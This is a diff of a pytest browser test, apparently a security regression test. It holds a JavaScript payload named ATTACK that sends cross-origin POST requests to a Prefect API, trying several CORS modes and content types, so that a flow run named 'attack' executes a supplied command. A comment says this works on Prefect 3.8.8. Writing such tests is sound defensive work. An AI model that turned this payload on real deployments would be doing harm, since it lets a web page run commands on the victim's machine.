@@ -22,7 +22,8 @@ ROOT = Path(__file__).parents[2]
 pytestmark = [pytest.mark.browser, pytest.mark.server]
 READY_S = 180.0
 RUN_S = 90.0  # the worker looks every 5 s, and a run takes some seconds to begin
-# What the page does: it knows what a page could learn, and more (the id of the deployment).
+# On Prefect as it comes, this makes a run "attack" with the command, which its worker executes (seen with 3.8.8). It
+# knows what a page could learn, and more (the id of the deployment).
 ATTACK = """async ([api, deployment, command]) => {
     const told = [];
     const body = {name: "attack", state: {type: "SCHEDULED"}, job_variables: {command: command, env: {X: "1"}}};
@@ -30,7 +31,7 @@ ATTACK = """async ([api, deployment, command]) => {
     for (const url of wanted) {
         for (const mode of ["cors", "no-cors"]) {
             for (const type of ["application/json", "text/plain"]) {
-                const asked = {method: "POST", mode: mode, credentials: "include", headers: {"Content-Type": type},
+                const asked = {method: "POST", mode: mode, credentials: "omit", headers: {"Content-Type": type},
                                body: JSON.stringify(body)};
                 try {
                     const answer = await fetch(url, asked);
